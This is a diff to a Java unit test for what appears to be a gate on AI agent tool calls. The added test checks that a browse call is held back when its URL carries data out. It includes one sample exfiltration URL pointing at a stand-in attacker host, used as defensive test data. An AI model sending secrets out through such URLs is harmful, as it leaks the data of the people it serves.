@@ -37,6 +37,16 @@ class BufferedActionsTest {
     }
 
     @Test
+    void a_url_that_may_carry_data_out_waits_for_its_record() {
+        tool("web.browse", ToolLabel.UNTRUSTED);
+        var groups = Set.of("untrusted");
+        assertThat(covered(groups, "call", "web.browse", Map.of("url", "https://wiki.example/a")))
+                .isTrue();
+        assertThat(covered(groups, "call", "web.browse", Map.of("url", "https://attacker.example/?d=secret")))
+                .isFalse();
+    }
+
+    @Test
     void a_group_that_does_not_exist_is_refused_at_the_start() {
         assertThatThrownBy(() -> new BufferedActions(Set.of("reading"), catalogue))
                 .hasMessageContaining("names reading, neither use nor call nor a label");
@@ -47,6 +57,10 @@ class BufferedActionsTest {
     }
 
     private boolean covered(Set<String> groups, String action, String resource) {
+        return covered(groups, action, resource, Map.of());
+    }
+
+    private boolean covered(Set<String> groups, String action, String resource, Map<String, Object> arguments) {
         return new BufferedActions(groups, catalogue)
                 .cover(new Question(
                         "person",
@@ -54,7 +68,7 @@ class BufferedActionsTest {
                         Question.Action.of(action),
                         action.equals("call") ? "tool" : "model",
                         resource,
-                        Map.of(),
+                        arguments,
                         Map.of(),
                         null,
                         null,
